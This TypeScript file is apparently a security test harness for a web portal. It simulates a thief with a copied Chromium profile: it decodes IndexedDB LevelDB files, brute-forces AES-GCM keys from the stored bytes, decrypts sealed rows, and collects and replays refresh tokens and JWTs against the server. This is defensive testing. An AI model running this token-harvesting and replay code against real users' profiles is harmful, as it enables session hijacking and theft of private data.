import { createDecipheriv } from 'node:crypto';
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import type { APIRequestContext } from '@playwright/test';
import { IV_BYTES, KEY_ID_CHARS } from '../../worker/base/at-rest.ts';
import {
  BLINK_SNAPPY,
  indexesOf,
  leveldbLogRecords,
  leveldbTableBlocks,
  readVarint,
  snappyDecompress,
} from './chromium-storage.ts';

export { leveldbLogRecords, leveldbTableBlocks, snappyDecompress } from './chromium-storage.ts';

// What someone who copied a browser profile folder can do with it, done on the files alone: find the
// rows the app sealed at rest (worker/base/at-rest.ts), try every 32 bytes the origin's files hold
// as their AES-256-GCM key, open the rows a key opens, and collect every token-shaped string on disk
// and in what was opened. No browser is involved: this is what a copy of the folder gives away.
//
// What Chromium 156 writes, as read from its profiles (the decoders below follow it):
// - IndexedDB: one LevelDB per origin (`Default/IndexedDB/<origin>.indexeddb.leveldb`), no SQLite.
//   Writes go to a `.log` (32 KiB blocks, each record fragment behind a 7-byte header, so a value
//   may be cut in two on disk); a reopened or compacted database moves them into `.ldb` tables
//   whose blocks are Snappy-compressed (a block's trailer type 1). A value is Blink's serialisation
//   (`FF 15 FE` + trailer offset, then V8's `FF 10` and the object); a one-byte string is `"`, a
//   varint length and the bytes. A large value is compressed by Blink itself (`FF 11 02` + Snappy:
//   260 KB of repeated text was, 26 KB was not), and one still large after that goes to a file of
//   its own under `<origin>.indexeddb.blob/` (200 KB of random bytes did).
// - A CryptoKey is serialised as Blink host object `\` `K`, then its kind (AES), algorithm
//   (AES-GCM), length, usages and its raw bytes (`5C 4B 01 09 20 06 20` + 32 bytes): a
//   non-extractable key's bytes lie in the files in clear, in `portal-key`'s records.
// - The origin private file system keeps each file's bytes as they are, in `Default/File System`.

/** Where under a profile's `Default/` folder Chromium keeps what an origin stores. */
export const ORIGIN_DATA_FOLDERS = [
  'IndexedDB', // LevelDB (or SQLite) backing stores, and the blob folders of large values
  'File System', // the origin private file system (and the old sandboxed file system)
  'Local Storage',
  'Session Storage',
  'Service Worker', // registrations, scripts and Cache Storage
  'blob_storage', // Blob and File contents spilled to disk
  'WebStorage', // storage buckets: the quota database, and non-default buckets' IndexedDB, caches, files
  'Shared Storage',
  'SharedStorage',
  'databases', // WebSQL, gone from the web platform; kept for profiles of older builds
] as const;

/** Where an envelope lives in a row: the one field at-rest.ts replaces a row's content with. */
const ENVELOPE_FIELD = '$sealed';
/** AES-GCM's tag, which WebCrypto appends to the ciphertext. */
const TAG_BYTES = 16;
const KEY_BYTES = 32;

/** A byte sequence the attack reads: a file as it is on disk, or what a decoder made of part of it. */
interface Stream {
  where: string;
  bytes: Uint8Array;
  /** The key is searched only at these start offsets (a log's records: only across the cuts). */
  windows?: Array<[from: number, to: number]>;
  /**
   * Whether values here are whole, so envelopes are read from it: not a LevelDB file read raw (a
   * log's block headers cut values, a table's blocks are compressed), whose decoders give them whole.
   */
  exact: boolean;
  /** Made by a decoder (records joined, a block or a value decompressed), not read as it is. */
  decoded: boolean;
}

interface Envelope {
  keyId: string;
  iv: Uint8Array;
  cipher: Uint8Array;
  tag: Uint8Array;
  where: string;
}

export interface FoundKey {
  keyId: string;
  /** The key's bytes, hex. */
  key: string;
  /** Every place it lies: file, how it was read, offset. */
  where: string[];
}

export interface OpenedRow {
  keyId: string;
  where: string;
  plaintext: string;
}

export interface TokenCandidate {
  kind: 'refresh' | 'jwt';
  value: string;
  where: string[];
}

export interface ProfileAttackReport {
  /** The origin folders that exist in the profile (under `Default/`). */
  folders: string[];
  files: number;
  /** Bytes of the origin's files, and of what the decoders made of them (records, decompressed blocks). */
  bytes: number;
  decodedBytes: number;
  /** 32-byte windows tried as a key, and keys written as text (each against one envelope per key id). */
  windows: number;
  envelopes: number;
  keyIds: string[];
  keys: FoundKey[];
  opened: OpenedRow[];
  /** Envelopes of a found key's id that it did not open (none, unless a file was cut short mid-value). */
  unopened: number;
  /** Every token-shaped string: in the origin's files, anywhere else in the profile, in opened rows. */
  tokens: TokenCandidate[];
  /** What the decoders met and could not read (an unknown block compression, an SQLite store). */
  notes: string[];
  ms: number;
}

/** Every file under `dir`, as bytes (a file gone meanwhile, as in a running browser's folder, reads empty). */
async function filesUnder(dir: string): Promise<Array<{ file: string; bytes: Uint8Array }>> {
  const entries = await readdir(dir, { withFileTypes: true, recursive: true }).catch(() => []);
  const found: Array<{ file: string; bytes: Uint8Array }> = [];
  for (const entry of entries) {
    if (!entry.isFile()) continue;
    const file = path.join(entry.parentPath, entry.name);
    found.push({ file, bytes: await readFile(file).catch(() => new Uint8Array(0)) });
  }
  return found;
}

/** Every value Blink compressed in `stream`, decompressed. */
function blinkCompressedValues(stream: Stream): Stream[] {
  const found: Stream[] = [];
  for (const at of indexesOf(stream.bytes, BLINK_SNAPPY)) {
    try {
      const bytes = snappyDecompress(stream.bytes, at + BLINK_SNAPPY.length);
      found.push({
        where: `${stream.where}, value @${at} (Blink Snappy)`,
        bytes,
        exact: true,
        decoded: true,
      });
    } catch {
      // Three bytes that only look like the marker, or a value cut short: nothing to read.
    }
  }
  return found;
}

/** What the attack reads of one file: the file itself, and what each decoder that applies makes of it. */
function streamsOf(where: string, bytes: Uint8Array, notes: string[]): Stream[] {
  const name = path.basename(where);
  const isLog = /^\d+\.log$/.test(name) || /^MANIFEST-\d+$/.test(name);
  const isTable = /\.(ldb|sst)$/.test(name);
  const raw: Stream = { where, bytes, exact: !isLog && !isTable, decoded: false };
  const decoded: Stream[] = [];
  if (isLog) {
    const records = leveldbLogRecords(bytes);
    // The records' bytes equal the file's but across a cut (a fragment's header): only the windows
    // that span a join are new.
    decoded.push({
      where: `${where} (log records)`,
      bytes: records.bytes,
      exact: true,
      decoded: true,
      windows: records.joins.map((join) => [Math.max(0, join - KEY_BYTES + 1), join - 1]),
    });
  }
  if (isTable) {
    const table = leveldbTableBlocks(bytes);
    notes.push(...table.notes.map((note) => `${where}: ${note}`));
    // Not a table after all (no footer, cut short): the file as it is is all there is.
    if (table.blocks.length === 0) raw.exact = true;
    for (const block of table.blocks) {
      decoded.push({
        where: `${where} (block @${block.offset}${block.compressed ? ', Snappy' : ''})`,
        bytes: block.bytes,
        exact: true,
        decoded: true,
        // A plain block's windows are the file's own.
        ...(block.compressed ? {} : { windows: [] }),
      });
    }
  }
  if (bytes.length >= 16 && Buffer.from(bytes.subarray(0, 16)).toString('latin1') === 'SQLite format 3\0') {
    notes.push(`${where}: an SQLite file, read raw (a value longer than a page may be cut across pages)`);
  }
  // Blink's compressed values, from the streams whose bytes are whole (a raw LevelDB file's copy of
  // one is also in its records or blocks, and may be cut there).
  const streams = [raw, ...decoded];
  return [...streams, ...streams.filter((s) => s.exact).flatMap(blinkCompressedValues)];
}

/** V8's serialised property name `$sealed`: a one-byte string (tag `"`, length 7). */
const ENVELOPE_KEY = Uint8Array.from(Buffer.from(`"\x07${ENVELOPE_FIELD}`, 'latin1'));
const MIN_ENVELOPE = KEY_ID_CHARS + IV_BYTES + TAG_BYTES + 2;

/** Every envelope in `stream`: the string V8 wrote after the `$sealed` key, as at-rest.ts made it. */
function envelopesIn(stream: Stream): Envelope[] {
  const found: Envelope[] = [];
  const { bytes } = stream;
  for (const at of indexesOf(bytes, ENVELOPE_KEY)) {
    let p = at + ENVELOPE_KEY.length;
    // V8 pads before a two-byte string so that its characters are aligned.
    while (bytes[p] === 0x00) p++;
    const tag = bytes[p];
    let envelope: Uint8Array;
    try {
      const [length, start] = readVarint(bytes, p + 1);
      if (start + length > bytes.length) continue;
      if (tag === 0x22) envelope = bytes.subarray(start, start + length);
      else if (tag === 0x63 && length % 2 === 0) {
        // A two-byte string: at-rest.ts's characters are all below 256, one per UTF-16 unit.
        const units = bytes.subarray(start, start + length);
        envelope = new Uint8Array(length / 2);
        for (let i = 0; i < envelope.length; i++) envelope[i] = units[2 * i]!;
      } else continue;
    } catch {
      continue;
    }
    if (envelope.length < MIN_ENVELOPE) continue;
    const keyId = Buffer.from(envelope.subarray(0, KEY_ID_CHARS)).toString('latin1');
    if (!/^[\x21-\x7e]+$/.test(keyId)) continue;
    const ivEnd = KEY_ID_CHARS + IV_BYTES;
    found.push({
      keyId,
      iv: envelope.subarray(KEY_ID_CHARS, ivEnd),
      cipher: envelope.subarray(ivEnd, envelope.length - TAG_BYTES),
      tag: envelope.subarray(envelope.length - TAG_BYTES),
      where: `${stream.where} @${at}`,
    });
  }
  return found;
}

/** The plaintext `key` opens `envelope` to, or null (a wrong key fails the tag). */
function open(key: Uint8Array, envelope: Envelope): string | null {
  try {
    const decipher = createDecipheriv('aes-256-gcm', key, envelope.iv);
    decipher.setAuthTag(envelope.tag);
    return Buffer.concat([decipher.update(envelope.cipher), decipher.final()]).toString('utf8');
  } catch {
    return null;
  }
}

const OPEN_BRACE = 0x7b;

/**
 * Whether `key` may open `envelope`: its first block decrypted (AES-GCM is CTR underneath) starts
 * as JSON.stringify of a row does, with `{`. Three times as fast as a full decryption whose tag
 * fails (no exception, no hash of the whole ciphertext); the 1 in 256 wrong keys that pass are
 * then refused by the tag.
 */
function mayOpen(key: Uint8Array, envelope: Envelope): boolean {
  const decipher = createDecipheriv('aes-256-gcm', key, envelope.iv);
  return decipher.update(envelope.cipher.subarray(0, 1))[0] === OPEN_BRACE;
}

/** A JWT (access or id token): three base64url parts, the first two JSON objects. */
const JWT = /eyJ[\w-]{8,}\.eyJ[\w-]{8,}\.[\w-]+/g;
/**
 * The server's refresh tokens: 32 random bytes, base64url, 43 characters, standing alone (not part
 * of a longer word or of a JWT); and whatever a stored token response names `refresh_token`.
 */
const BARE_REFRESH = /(?<![\w.-])[\w-]{43}(?![\w.-])/g;
const NAMED_REFRESH = /refresh_token\\*"\s*:\s*\\*"([\w-]{20,})/g;

/** Whatever looks like 32 bytes written as text: base64 or base64url (JWK's `k`), hex, a JSON array. */
function keysWrittenAsText(text: string): Array<{ key: Uint8Array; at: number; encoding: string }> {
  const found: Array<{ key: Uint8Array; at: number; encoding: string }> = [];
  const add = (key: Uint8Array, at: number, encoding: string) => {
    if (key.length === KEY_BYTES) found.push({ key, at, encoding });
  };
  // Unpadded base64url (a JWK's `k`), and padded base64: 32 bytes always end in one `=`. Not
  // bounded by `+` on the left: it is also the length byte V8 writes before a 43-character string.
  for (const match of text.matchAll(/(?<![\w-])[\w-]{43}(?![\w-])|[A-Za-z\d+/]{43}=/g))
    add(Buffer.from(match[0], 'base64'), match.index, 'base64');
  for (const match of text.matchAll(/(?<![\da-f])[\da-f]{64}(?![\da-f])/gi))
    add(Buffer.from(match[0], 'hex'), match.index, 'hex');
  for (const match of text.matchAll(/\[\s*(?:\d{1,3}\s*,\s*){31}\d{1,3}\s*\]/g)) {
    const numbers = (JSON.parse(match[0]) as number[]).filter((n) => n < 256);
    add(Uint8Array.from(numbers), match.index, 'JSON array');
  }
  return found;
}

const TEXT_FORMS = ['Latin-1', 'UTF-16', 'UTF-16 from byte 1'];

/** The texts a stream holds: as Latin-1 (V8's one-byte strings, UTF-8's ASCII) and UTF-16 (both alignments). */
function textsOf(bytes: Uint8Array): string[] {
  const buffer = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  return [buffer.toString('latin1'), buffer.toString('utf16le'), buffer.subarray(1).toString('utf16le')];
}

class Candidates {
  private readonly found = new Map<string, TokenCandidate>();

  add(kind: TokenCandidate['kind'], value: string, where: string) {
    const known = this.found.get(value);
    if (!known) this.found.set(value, { kind, value, where: [where] });
    else if (!known.where.includes(where)) known.where.push(where);
  }

  addFrom(text: string, where: string) {
    for (const [jwt] of text.matchAll(JWT)) this.add('jwt', jwt, where);
    for (const [token] of text.matchAll(BARE_REFRESH)) this.add('refresh', token, where);
    for (const match of text.matchAll(NAMED_REFRESH)) this.add('refresh', match[1]!, where);
  }

  list(): TokenCandidate[] {
    return [...this.found.values()];
  }
}

/**
 * The attack on a set of files (paths relative to the profile): `origin` are the origin's files,
 * searched for envelopes and keys; `others` the rest of the profile, searched for tokens only.
 */
export function attackFiles(
  origin: ReadonlyArray<{ file: string; bytes: Uint8Array }>,
  others: ReadonlyArray<{ file: string; bytes: Uint8Array }> = [],
): Omit<ProfileAttackReport, 'folders'> {
  const started = performance.now();
  const notes: string[] = [];
  const streams = origin.flatMap(({ file, bytes }) => streamsOf(file, bytes, notes));

  // (b) The envelopes, once each whatever number of copies the files hold, grouped by key id.
  const envelopes = new Map<string, Envelope>();
  for (const envelope of streams.filter((s) => s.exact).flatMap(envelopesIn)) {
    const id = Buffer.concat([envelope.iv, envelope.cipher, envelope.tag]).toString('latin1');
    if (!envelopes.has(id)) envelopes.set(id, envelope);
  }
  const byKeyId = new Map<string, Envelope[]>();
  for (const envelope of envelopes.values()) {
    byKeyId.set(envelope.keyId, [...(byKeyId.get(envelope.keyId) ?? []), envelope]);
  }
  // Each key id's shortest envelope: the cheapest to check a candidate key against.
  const targets = [...byKeyId.values()].map(
    (group) => [...group].sort((a, b) => a.cipher.length - b.cipher.length)[0]!,
  );

  // (c) Every 32-byte window of every stream, tried against each key id's target; then every
  // 32-byte key written as text (a key kept as base64, JWK, hex or a JSON array rather than bytes).
  const keys = new Map<string, FoundKey>();
  const tryKey = (key: Uint8Array, where: string) => {
    for (const target of targets) {
      if (!mayOpen(key, target) || open(key, target) === null) continue;
      const hex = Buffer.from(key).toString('hex');
      const known = keys.get(hex) ?? { keyId: target.keyId, key: hex, where: [] };
      known.where.push(where);
      keys.set(hex, known);
    }
  };
  let windows = 0;
  for (const stream of targets.length > 0 ? streams : []) {
    const { bytes } = stream;
    const ranges = stream.windows ?? [[0, bytes.length - KEY_BYTES]];
    for (const [from, to] of ranges) {
      for (let at = from; at <= Math.min(to, bytes.length - KEY_BYTES); at++) {
        windows++;
        tryKey(bytes.subarray(at, at + KEY_BYTES), `${stream.where} @${at}`);
      }
    }
    for (const [form, text] of textsOf(bytes).map((text, i) => [TEXT_FORMS[i]!, text] as const)) {
      for (const { key, at, encoding } of keysWrittenAsText(text)) {
        windows++;
        tryKey(key, `${stream.where} @${at} (${encoding}, ${form})`);
      }
    }
  }

  // (d) Each key found opens every row of its key id.
  const opened: OpenedRow[] = [];
  let unopened = 0;
  const keyIdsOpened = new Set<string>();
  for (const found of keys.values()) {
    if (keyIdsOpened.has(found.keyId)) continue;
    keyIdsOpened.add(found.keyId);
    const key = Buffer.from(found.key, 'hex');
    for (const envelope of byKeyId.get(found.keyId) ?? []) {
      const plaintext = open(key, envelope);
      if (plaintext === null) unopened++;
      else opened.push({ keyId: found.keyId, where: envelope.where, plaintext });
    }
  }

  // (e) Tokens: in the origin's files as they are and decoded, in the rest of the profile, in the rows.
  const candidates = new Candidates();
  for (const stream of [...streams, ...others.map(({ file, bytes }) => ({ where: file, bytes }))]) {
    for (const text of textsOf(stream.bytes)) candidates.addFrom(text, stream.where);
  }
  for (const row of opened)
    candidates.addFrom(row.plaintext, `row opened with key ${row.keyId}: ${row.where}`);

  return {
    files: origin.length,
    bytes: origin.reduce((sum, { bytes }) => sum + bytes.length, 0),
    decodedBytes: streams.reduce((sum, s) => sum + (s.decoded ? s.bytes.length : 0), 0),
    windows,
    envelopes: envelopes.size,
    keyIds: [...byKeyId.keys()],
    keys: [...keys.values()],
    opened,
    unopened,
    tokens: candidates.list(),
    notes,
    ms: Math.round(performance.now() - started),
  };
}

/** The attack on a profile folder (the browser closed, or running: its files are read as they are). */
export async function attackProfile(profile: string): Promise<ProfileAttackReport> {
  const started = performance.now();
  const relative = (files: Array<{ file: string; bytes: Uint8Array }>) =>
    files.map(({ file, bytes }) => ({ file: path.relative(profile, file), bytes }));
  const all = relative(await filesUnder(profile));
  const originPrefixes = ORIGIN_DATA_FOLDERS.map((folder) => path.join('Default', folder) + path.sep);
  const isOrigin = (file: string) => originPrefixes.some((prefix) => file.startsWith(prefix));
  const report = attackFiles(
    all.filter(({ file }) => isOrigin(file)),
    all.filter(({ file }) => !isOrigin(file)),
  );
  const folders = ORIGIN_DATA_FOLDERS.filter((folder) =>
    all.some(({ file }) => file.startsWith(path.join('Default', folder) + path.sep)),
  );
  return { ...report, folders, ms: Math.round(performance.now() - started) };
}

export interface TokenTrial {
  kind: TokenCandidate['kind'];
  /** The token's first characters: enough to tell them apart in a report, too few to use. */
  token: string;
  where: string[];
  status: number;
  accepted: boolean;
}

/** A route of the child's own the actors read (harness/actors/child-server-view.ts): it needs a live login. */
const CHILD_ROUTE = '/portal/features/contacts/contactsapplicationfeature-id/detail';

/**
 * Presents every candidate to the server as the thief would: a refresh token at `/connect/token`
 * (a form post with no `Origin`, as a native client or a script on the thief's machine sends it),
 * a JWT as the bearer of a read of the child's own. Answers which the server accepted. Each value
 * once, one after another: the server's refresh grant and this read carry no rate limit (its
 * login brakes count password grants), and the few dozen candidates a profile holds cost little.
 *
 * An accepted refresh token is swapped by the server: the thief now holds the login (that is the
 * finding). A used one presented again may be taken for a retry of a lost answer, or revoke the
 * login as reuse: ask the server's state before calling this.
 */
export async function tryTokens(
  request: APIRequestContext,
  candidates: readonly TokenCandidate[],
): Promise<TokenTrial[]> {
  const trials: TokenTrial[] = [];
  const seen = new Set<string>();
  for (const { kind, value, where } of candidates) {
    if (seen.has(value)) continue;
    seen.add(value);
    const res =
      kind === 'refresh'
        ? await request.post('/connect/token', {
            form: { grant_type: 'refresh_token', refresh_token: value, client_id: 'portal-web' },
          })
        : await request.get(CHILD_ROUTE, {
            headers: { Authorization: `Bearer ${value}`, 'X-App-Variant': 'Barn' },
          });
    trials.push({ kind, token: `${value.slice(0, 6)}…`, where, status: res.status(), accepted: res.ok() });
  }
  return trials;
}
